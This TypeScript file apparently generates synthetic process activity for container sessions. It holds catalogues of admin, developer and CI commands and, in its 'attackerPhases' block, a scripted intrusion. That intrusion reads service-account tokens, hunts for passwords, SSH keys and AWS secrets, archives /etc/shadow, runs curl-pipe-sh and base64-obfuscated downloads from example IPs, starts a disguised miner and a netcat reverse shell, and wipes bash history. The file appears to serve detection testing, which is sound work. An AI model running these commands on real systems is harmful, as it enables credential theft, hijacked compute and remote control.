/**
 * Command catalogues for each kind of session, written as shell command lines and parsed once into process
 * templates. A line with ` | ` becomes several sibling processes of the shell started in the same second.
 */

export interface ProcessTemplate {
  name: string;
  executable: string;
  args: string[];
  commandLine: string;
}

/** One thing typed at the prompt: the processes of its pipeline. */
export type Command = ProcessTemplate[];

const binaryPaths: Record<string, string> = {
  bash: '/bin/bash', sh: '/bin/sh', cat: '/bin/cat', ls: '/bin/ls', ps: '/bin/ps', grep: '/bin/grep', mount: '/bin/mount',
  uname: '/bin/uname', chmod: '/bin/chmod', rm: '/bin/rm', df: '/bin/df', kill: '/bin/kill', hostname: '/bin/hostname',
  sed: '/bin/sed', date: '/bin/date', echo: '/bin/echo', sleep: '/bin/sleep', tar: '/bin/tar', mkdir: '/bin/mkdir', ln: '/bin/ln',
  node: '/usr/local/bin/node', npm: '/usr/local/bin/npm', python3: '/usr/local/bin/python3', go: '/usr/local/go/bin/go',
  pip: '/usr/local/bin/pip', 'redis-cli': '/usr/local/bin/redis-cli', psql: '/usr/lib/postgresql/16/bin/psql',
  pg_isready: '/usr/lib/postgresql/16/bin/pg_isready', 'apt-get': '/usr/bin/apt-get',
};

/** Splits a command line into words, honouring single and double quotes (no expansions). */
export function splitWords(line: string): string[] {
  const words: string[] = [];
  let word = '';
  let inWord = false;
  let quote: '"' | "'" | null = null;
  for (const ch of line) {
    if (quote) {
      if (ch === quote) quote = null;
      else word += ch;
    } else if (ch === '"' || ch === "'") {
      quote = ch;
      inWord = true;
    } else if (ch === ' ' || ch === '\t') {
      if (inWord) words.push(word);
      word = '';
      inWord = false;
    } else {
      word += ch;
      inWord = true;
    }
  }
  if (inWord) words.push(word);
  return words;
}

function template(segment: string): ProcessTemplate {
  const args = splitWords(segment.trim());
  const first = args[0] ?? 'sh';
  const executable = first.startsWith('/') ? first : (binaryPaths[first] ?? `/usr/bin/${first}`);
  const name = executable.slice(executable.lastIndexOf('/') + 1);
  return { name, executable, args, commandLine: args.join(' ') };
}

/** Parses one command line (pipelines split on ` | `). */
export function parseCommand(line: string): Command {
  return line.split(' | ').map(template);
}

const parseAll = (lines: string[]): Command[] => lines.map(parseCommand);

export const adminCommands = parseAll([
  'ps aux', 'df -h', 'top -b -n 1', 'ls -la /etc/coredns', 'cat /etc/resolv.conf', 'ss -tlnp', 'tail -n 200 /var/log/messages',
  'du -sh /var/lib/postgresql/data', 'free -m', 'uptime', 'date', 'hostname', 'ip addr', 'curl -s http://localhost:9090/-/ready',
  'kubectl get pods -n kube-system', 'kubectl rollout status deploy/coredns -n kube-system', 'dig +short checkout-api.shop.svc.cluster.local',
  'psql -U postgres -c "select count(*) from pg_stat_activity"', 'redis-cli info memory', 'journalctl -u kubelet --since -10m',
]);

export const developerCommands = parseAll([
  'ls -la', 'cat config/app.yaml', 'node -e "console.log(process.version)"', 'npm ls --depth=0', 'python3 manage.py showmigrations',
  'tail -n 50 /var/log/app/app.log', 'ps aux', 'pwd', 'ls /app', 'cat package.json', 'curl -s http://localhost:8080/healthz',
  'python3 -m pip list', 'du -sh /app/cache', 'date', 'cat /etc/os-release', 'grep -rn TODO src',
]);

export const ciCommands = parseAll([
  'git fetch --depth 1 origin', 'git checkout -f FETCH_HEAD', 'npm ci --no-audit', 'npm test', 'npm run build', 'go build ./...',
  'go test ./...', 'pytest -q', 'pip install -r requirements.txt', 'tar -czf artifacts.tgz dist', 'ls -la dist', 'node --version',
]);

/** An attacker's session, phase by phase: each phase contributes a few commands, in order. */
export const attackerPhases: { discovery: Command[]; credentials: Command[]; payload: Command[][]; cleanup: Command[] } = {
  discovery: parseAll([
    'id', 'whoami', 'uname -a', 'cat /etc/os-release', 'env', 'ps aux', 'mount', 'capsh --print',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/namespace',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'which curl wget nc python3 kubectl',
    'nslookup kubernetes.default.svc.cluster.local',
    'curl -k -H "Authorization: Bearer eyJhbGciOiJSUzI1NiIsImtpZCI6IjVIWm9UZ1R6In0" https://kubernetes.default.svc/api/v1/namespaces/default/pods',
  ]),
  credentials: parseAll([
    'grep -ri password /app /etc',
    'find / -name id_rsa',
    'grep -r aws_secret_access_key /root /home /app',
    'cat /root/.aws/credentials',
    'find / -name "*.pem" -path "*private_key*"',
    'tar -czf /tmp/loot.tgz /root/.ssh/ /etc/shadow',
  ]),
  payload: [
    parseAll(['curl -fsSL http://203.0.113.50/x.sh | sh']),
    parseAll(['wget -q -O /tmp/.kworker http://198.51.100.23/kworker', 'chmod +x /tmp/.kworker', '/tmp/.kworker -o pool.example.net:3333']),
    parseAll(['curl -s -o /dev/shm/agent http://203.0.113.50/agent', 'chmod 777 /dev/shm/agent', '/dev/shm/agent']),
    parseAll(['apt-get install -y netcat-openbsd curl', 'nc 203.0.113.50 4444 -e /bin/sh']),
    parseAll(['echo "Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUwL3Iuc2g=" | base64 -d | sh']),
  ],
  cleanup: parseAll(['rm -f /root/.bash_history', 'rm -rf /tmp/.kworker']),
};

const probeCommandCache = new Map<string, Command>();

/** The parsed form of a workload's probe command (cached: probes are most of the background). */
export function probeCommand(line: string): Command {
  let cmd = probeCommandCache.get(line);
  if (!cmd) {
    cmd = parseCommand(line);
    probeCommandCache.set(line, cmd);
  }
  return cmd;
}

export const nonInteractiveExecs = parseAll([
  'cat /etc/nginx/nginx.conf', 'ls /var/log', 'env', 'printenv HOSTNAME', 'date', 'nginx -t', 'cat /proc/1/status',
  'sh -c "du -sh /var/lib/postgresql/data"', 'redis-cli dbsize', 'tail -n 20 /var/log/app/app.log',
]);

export const ciExecs = parseAll([
  'sh -c "npm ci && npm test"', 'sh -c "go test ./..."', 'sh -c "pytest -q"', 'sh -c "git fetch --depth 1 origin"',
]);
